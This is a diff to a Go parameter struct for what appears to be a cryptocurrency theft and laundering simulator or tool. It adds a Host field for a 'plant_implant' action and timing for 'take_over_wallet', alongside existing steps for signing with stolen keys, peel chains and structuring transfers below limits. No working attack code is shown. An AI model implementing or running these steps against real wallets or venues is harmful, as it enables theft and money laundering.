@@ -31,7 +31,9 @@ type Params struct {
 	// Fresh is how often withdraw_direct changes the address it sends to.
 	Fresh Fresh `json:"fresh,omitempty"`
 
-	// Amount is what sign_with_stolen_key and fan_out send, in base units, the
+	// Host is the host of the venue's that plant_implant changes; required there.
+	Host string `json:"host,omitempty"`
+	// Amount is what sign_with_stolen_key, take_over_wallet and fan_out send, in base units, the
 	// miner's fee not included; they send less where there is less.
 	Amount int64 `json:"amount,omitempty"`
 	// To says to which of the thief's other addresses fan_out sends, from 0 on.
@@ -113,6 +115,7 @@ const (
 	DefaultTimes   = 3
 	DefaultBackoff = 5 * time.Minute
 	DefaultHop     = 10 * time.Minute // between two transactions of peel and structure_below_limit: a block of Bitcoin's
+	DefaultWatch   = time.Minute      // between two looks of take_over_wallet
 	DefaultVisit   = time.Hour        // between two looks of withdraw_proceeds
 )
 
